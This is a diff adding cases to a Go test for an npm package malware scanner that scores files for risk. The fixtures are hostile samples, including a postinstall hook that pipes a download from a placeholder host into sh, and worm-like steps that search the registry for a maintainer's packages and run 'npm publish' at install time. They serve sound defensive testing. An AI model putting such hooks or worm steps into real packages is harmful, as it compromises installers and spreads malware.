@@ -262,6 +262,16 @@ func TestScoring(t *testing.T) {
 		{"lone low", map[string]string{"index.js": "eval(x)"}, Clean, 1},
 		{"lone high", map[string]string{"index.js": "eval(atob(x))"}, Suspicious, 12 + 1},
 		{"critical install", map[string]string{"package.json": manifestJSON("x", map[string]string{"postinstall": "curl https://x.example/a | sh"})}, Malicious, 40 + 4},
+		// Release tooling's step alone: A060 medium + A030 low.
+		{"publish from a cli", map[string]string{"index.js": "require('child_process').execSync('npm publish')"}, Clean, 4 + 1},
+		// The worm's enumeration alone is suspicious.
+		{"maintainer search", map[string]string{"index.js": "fetch(`https://registry.npmjs.org/-/v1/search?text=maintainer:${u}`)"}, Suspicious, 12},
+		// Publishing from an install-time file: A060 critical, A001 medium,
+		// A030 medium and install-time-worm.
+		{"publish at install", map[string]string{
+			"package.json": manifestJSON("x", map[string]string{"postinstall": "node i.js"}),
+			"i.js":         "require('child_process').execSync('npm publish')",
+		}, Malicious, 40 + 4 + 4 + 20},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
